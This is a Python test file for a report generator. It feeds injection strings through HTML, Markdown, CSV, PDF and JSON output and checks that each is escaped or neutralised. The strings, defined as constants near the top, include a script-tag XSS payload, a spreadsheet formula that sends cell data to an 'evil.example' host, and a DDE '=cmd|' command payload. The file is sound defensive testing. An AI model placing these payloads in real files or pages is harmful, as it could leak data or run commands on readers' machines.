"""The report in all five formats, with hostile text in every field a person or customer fills.

One session on the in-memory database holds what people could type anywhere:
markup (`<script>`, Markdown links, pipes), spreadsheet formulas (`=HYPERLINK`,
`=cmd|`), a 5,000-character quote, an 800-character word, right-to-left text,
emoji, control and bidi characters, `$` signs. Each format must carry the
findings and none may let that text act: HTML escapes it, Markdown escapes its
markup, CSV neutralises formulas, the PDF keeps everything on the page, JSON
stays JSON; a participant's name appears nowhere.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_c
import pytest

from bot import services
from bot.core.context import ProductContext
from bot.core.evidence import Evidence
from bot.core.taxonomy import Business, Method, Mot, Polarity, Stage
from bot.report import FORMATS, gather, render
from bot.report.document import all_text, compose
from bot.report.spreadsheet import COLUMNS, FORMULA_STARTS
from tests.fakes import FakeDatabase

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click me")'
CMD = "=cmd|' /C calc'!A0"
LONG_WORD = "Supercalifragilistic" * 40
RTL = "التوصيل متأخر دائما והשירות איטי"
EMOJI = "📦🚚💥 late again 😡"
MARKDOWN = "[click](javascript:alert(1)) | **bold** `code` # heading"
QUOTE_5000 = ("The box came late again and nobody told us why. " * 110)[:5000]
SNEAKY = "a\x00b\x07c \u202eevil\u202c $x^2$ costs $5"
PERSON = "Zelda Quixote-Nameless"
PRODUCT = f"Crate {SCRIPT} {CMD} 📦"
TEAM = "tg:-5:7"


def _tickets(path: Path) -> Path:
    rows = [
        ("1", f"{FORMULA} my box arrived late, delivery was three hours late"),
        ("2", f"{SCRIPT} the delivery was late and the driver was rude {LONG_WORD}"),
        ("3", f"{RTL} late delivery again, no tracking update"),
        ("4", f"{EMOJI} the box was late, delivery failed {MARKDOWN}"),
        ("5", f"{CMD} the app crashes when I change my recipes"),
        ("6", f"{QUOTE_5000} delivery late"),
        ("7", f"+{SNEAKY} great recipes, the food was delicious, thank you"),
        ("8", f"-1+1 @SUM(1) the support team was friendly and helpful {EMOJI}"),
    ]
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["Ticket ID", "Description"])
        writer.writerows(rows)
    return path


def _survey(path: Path) -> Path:
    rows = [
        ("3", "2", "amot", "", f"{FORMULA} the box was late {QUOTE_5000}"),
        ("9", "5", "smot", f"{SCRIPT} recipes are great {RTL}", ""),
        ("10", "5", "umot", f"{EMOJI} I told my friends {MARKDOWN}", ""),
        ("2", "1", "amot", "", f"{CMD} delivery late again {LONG_WORD}"),
    ]
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["nps", "csat", "moment", "went well", "went badly"])
        writer.writerows(rows)
    return path


def hostile_session(db: FakeDatabase, folder: Path) -> str:
    """A session with all four methods, hostile text in every field people fill."""
    uow = db.unit_of_work
    view = services.open_session(uow, TEAM, PERSON)
    context = ProductContext(PRODUCT, Business.B2C, [SCRIPT, FORMULA, RTL], LONG_WORD + SNEAKY)
    services.save_context(uow, view.id, context)
    team = [
        Evidence(Method.TEAM, Mot.AMOT, Stage.RETENTION, Polarity.PAIN, SCRIPT + LONG_WORD,
                 f"{FORMULA} boxes arrive late {QUOTE_5000}", importance=5, performance=1),
        Evidence(Method.TEAM, Mot.SMOT, Stage.RETENTION, Polarity.GLORY, RTL,
                 f"{EMOJI} our hotline is loved {MARKDOWN}", importance=4, performance=5),
        Evidence(Method.TEAM, Mot.ZMOT, Stage.INTEREST, Polarity.PAIN, CMD,
                 f"{RTL} bad reviews {SNEAKY}", importance=4, performance=2),
    ]  # fmt: skip
    services.add_evidence(uow, view.id, team, TEAM, PERSON)
    competitor = Evidence(
        Method.COMPETITOR, Mot.AMOT, touchpoint=SCRIPT, competitor_rating=5, own_rating=1,
        text=f"{QUOTE_5000} delivery window",
        details={"competitor": CMD, "ideas": f"{SCRIPT} {FORMULA}"},
    )  # fmt: skip
    services.add_evidence(uow, view.id, [competitor], TEAM, PERSON)
    services.import_helpdesk_export(uow, view.id, _tickets(folder / "tickets.csv"))
    services.import_survey_results(uow, view.id, _survey(folder / "survey.csv"))
    return view.id


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    db = FakeDatabase()
    session_id = hostile_session(db, tmp_path_factory.mktemp("hostile"))
    return gather(db.unit_of_work, session_id)


@pytest.fixture(scope="module")
def files(report: dict[str, Any]) -> dict[str, bytes]:
    return {fmt: render(report, fmt) for fmt in FORMATS}


def test_the_hostile_session_reaches_every_part_of_the_report(report: dict[str, Any]) -> None:
    assert report["moments"] and report["strengths"]
    assert set(report["methods"]["used"]) == {"team", "records", "competitor", "survey"}
    words = all_text(compose(report))
    for hostile in (SCRIPT, "=HYPERLINK", "=cmd|", "השירות", "📦", "[click]"):
        assert hostile in words, hostile


def test_no_format_names_a_participant(files: dict[str, bytes], report: dict[str, Any]) -> None:
    for fmt in ("md", "html", "csv", "json"):
        assert PERSON.encode() not in files[fmt], fmt
        assert b"Zelda" not in files[fmt], fmt
    assert report["participation"] == {
        "team_members": 1, "team_answers": 4, "survey_responses": 4, "named": []
    }  # fmt: skip


def test_only_who_agreed_is_named_and_an_anonymous_report_names_nobody(tmp_path: Path) -> None:
    db = FakeDatabase()
    session_id = hostile_session(db, tmp_path)
    services.add_evidence(db.unit_of_work, session_id, [_pain("late again")], "tg:8", "Bo")
    services.set_naming_consent(db.unit_of_work, "tg:-5:8", "Bo Agreeable", True)
    named = gather(db.unit_of_work, session_id)
    assert named["participation"]["named"] == ["Bo Agreeable"]
    for fmt in ("md", "html", "pdf", "json"):
        words = all_text(compose(named)) if fmt == "pdf" else render(named, fmt).decode()
        assert "Bo Agreeable" in words and PERSON not in words, fmt
    anonymous = gather(db.unit_of_work, session_id, anonymous=True)
    assert anonymous["participation"]["named"] == []
    assert b"Bo Agreeable" not in render(anonymous, "md")
    # Withdrawn: not named any more.
    services.set_naming_consent(db.unit_of_work, "tg:-5:8", "Bo Agreeable", False)
    assert gather(db.unit_of_work, session_id)["participation"]["named"] == []


def _pain(said: str) -> Evidence:
    return Evidence(Method.TEAM, Mot.AMOT, Stage.RETENTION, Polarity.PAIN, "app", said)


def test_json_keeps_the_contract_and_the_text_as_given(files: dict[str, bytes]) -> None:
    report = json.loads(files["json"])
    assert {"session", "moments", "strengths", "metrics"} <= set(report)
    assert report["session"]["product"] == PRODUCT
    item = report["moments"][0]
    for key in ("rank", "title", "stage", "mot", "polarity", "touchpoint", "score"):
        assert key in item
    for key in ("score_inputs", "methods", "evidence", "suggestions"):
        assert key in item
    scores = [m["score"] for m in report["moments"]]
    assert scores == sorted(scores, reverse=True)
    assert any(SCRIPT in s["text"] for m in report["moments"] for s in m["suggestions"])


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.urls: list[str] = []
        self.script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.urls += [v or "" for k, v in attrs if k in ("src", "href", "action")]


def test_html_escapes_everything_and_fetches_nothing(files: dict[str, bytes]) -> None:
    page = files["html"].decode()
    parser = _Tags()
    parser.feed(page)
    allowed = {"html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "p",
               "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "blockquote",
               "figure", "figcaption", "img", "strong", "em", "code", "section", "hr"}  # fmt: skip
    assert parser.tags <= allowed, parser.tags - allowed
    assert all(url.startswith("data:image/png;base64,") for url in parser.urls)
    assert "<script" not in page and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "\x00" not in page and "\u202e" not in page
    assert "default-src 'none'" in page  # the policy forbids scripts and requests
    assert page.count("<img ") == 2  # the journey chart and the matrix
    assert "@page" in page and "@media print" in page
    assert "What to do about each pain" in page and "Importance and performance" in page


def test_markdown_shows_markup_as_typed(files: dict[str, bytes]) -> None:
    markdown = files["md"].decode()
    assert not re.search(r"(?<!\\)<(?!/?sub>)", markdown)  # no tag but our own <sub>
    assert "\\<script\\>" in markdown
    assert "\\[click\\](javascript:alert(1))" in markdown
    for line in markdown.splitlines():
        if line.startswith("| P") or line.startswith("| S"):
            unescaped = re.findall(r"(?<!\\)\|", line)
            assert len(unescaped) == 7, line  # six columns, whatever the title held
    assert "\x00" not in markdown and "\u202e" not in markdown  # control and bidi marks dropped


def test_csv_opens_in_python_and_neutralises_formulas(files: dict[str, bytes]) -> None:
    text = files["csv"].decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows and list(rows[0]) == list(COLUMNS)
    kinds = {row["row_type"] for row in rows}
    assert kinds == {"moment", "suggestion"}
    report = json.loads(files["json"])
    items = [*report["moments"], *report["strengths"]]
    assert sum(row["row_type"] == "moment" for row in rows) == len(items)
    assert sum(row["row_type"] == "suggestion" for row in rows) == sum(
        len(i["suggestions"]) for i in items
    )
    cells = [cell for row in rows for cell in row.values()]
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            assert re.fullmatch(r"-?\d+(\.\d+)?", cell), cell  # only numbers may start so
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert any(cell.startswith("'=cmd|") for cell in cells)


def pdf_pages(content: bytes) -> list[dict[str, Any]]:
    """Each page as a reader meets it: size, text boxes with font sizes, images, ink."""
    pages = []
    document = pdfium.PdfDocument(content)
    try:
        for page in document:
            width, height = page.get_size()
            textpage = page.get_textpage()
            boxes = []
            for index in range(textpage.count_chars()):
                left, bottom, right, top = textpage.get_charbox(index)
                size = pdfium_c.FPDFText_GetFontSize(textpage.raw, index)
                if right > left:
                    boxes.append((left, bottom, right, top, size))
            images = list(page.get_objects(filter=[pdfium_c.FPDF_PAGEOBJ_IMAGE]))
            pages.append(
                {
                    "size": (width, height),
                    "boxes": boxes,
                    "text": textpage.get_text_bounded(),
                    "images": len(images),
                }
            )
            textpage.close()
            page.close()
    finally:
        document.close()
    return pages


MM = 72 / 25.4  # points per millimetre


def assert_readable(content: bytes) -> list[dict[str, Any]]:
    """Nothing runs off a page, nothing is too small to read at 100 %, charts are there."""
    pages = pdf_pages(content)
    assert len(pages) > 1
    for number, page in enumerate(pages, start=1):
        width, height = page["size"]
        assert (round(width), round(height)) == (595, 842)  # A4
        for left, bottom, right, top, size in page["boxes"]:
            assert left >= 17 * MM and right <= width - 17 * MM, (number, left, right)
            assert bottom >= 6 * MM and top <= height - 12 * MM, (number, bottom, top)
            assert size >= 7.5, (number, size)
    assert sum(page["images"] for page in pages) == 2  # the journey chart and the matrix
    return pages


def test_the_pdf_keeps_hostile_text_on_the_page(files: dict[str, bytes]) -> None:
    pages = assert_readable(files["pdf"])
    words = "".join(page["text"] for page in pages)
    assert "<script>alert('x')</script>" in words  # shown as text, as typed
    assert "Supercalifragilistic" in words
    assert "\u25a1" in words  # a glyph the font lacks shows as a square, not nothing


def test_every_format_renders_an_empty_session(tmp_path: Path) -> None:
    db = FakeDatabase()
    view = services.open_session(db.unit_of_work, TEAM, PERSON)
    report = gather(db.unit_of_work, view.id)
    for fmt in FORMATS:
        assert render(report, fmt)
    assert b"No evidence yet" in render(report, "md")
    rows = list(csv.reader(io.StringIO(render(report, "csv").decode("utf-8-sig"))))
    assert rows == [list(COLUMNS)]
